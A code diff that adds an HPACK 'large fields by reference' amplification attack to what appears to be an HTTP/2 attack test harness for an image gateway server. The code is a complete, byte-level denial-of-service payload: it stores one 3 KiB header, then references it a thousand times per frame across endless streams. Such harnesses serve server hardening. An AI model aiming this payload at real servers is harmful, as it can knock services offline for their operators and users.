@@ -7,6 +7,7 @@ import static io.imagegate.server.Http2Frames.END_STREAM;
 import static io.imagegate.server.Http2Frames.HEADERS;
 import static io.imagegate.server.Http2Frames.PING;
 import static io.imagegate.server.Http2Frames.SETTINGS;
+import static java.nio.charset.StandardCharsets.US_ASCII;
 
 import io.imagegate.server.Http2Frames;
 import java.io.ByteArrayOutputStream;
@@ -41,6 +42,7 @@ final class Http2Attacks {
         all.put("PRIORITY", a -> control(a, Http2Frames.frame(PRIORITY, 0, 3, new byte[5])));
         all.put("frames of an unknown type", a -> control(a, Http2Frames.frame(UNKNOWN, 0, 0)));
         all.put("rapid reset", Http2Attacks::rapidReset);
+        all.put("large fields by reference", Http2Attacks::references);
         return all;
     }
 
@@ -98,6 +100,24 @@ final class Http2Attacks {
         while (true) {
             connection.write(frames.toByteArray());
             adversary.sent(frames.size(), ITEMS);
+        }
+    }
+
+    /** A field of 3 KiB is named once, and then a thousand times in every head by one byte. */
+    private static void references(Adversary adversary) throws IOException {
+        Http2Frames connection = adversary.http2(adversary.apiserver());
+        ByteArrayOutputStream head = new ByteArrayOutputStream();
+        head.writeBytes(HEAD);
+        // Literal with indexing and a new name: lengths of 7 bits, of which 127 means that more follow.
+        head.writeBytes(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0x80, 24});
+        head.writeBytes("y".repeat(127 + (24 << 7)).getBytes(US_ASCII));
+        byte[] reference = {(byte) 0xbe};
+        for (int i = 0; i < ITEMS; i++) {
+            head.writeBytes(reference);
+        }
+        for (int stream = 1; stream > 0; stream += 2) {
+            connection.write(Http2Frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, head.toByteArray()));
+            adversary.sent(head.size(), 1);
         }
     }
 
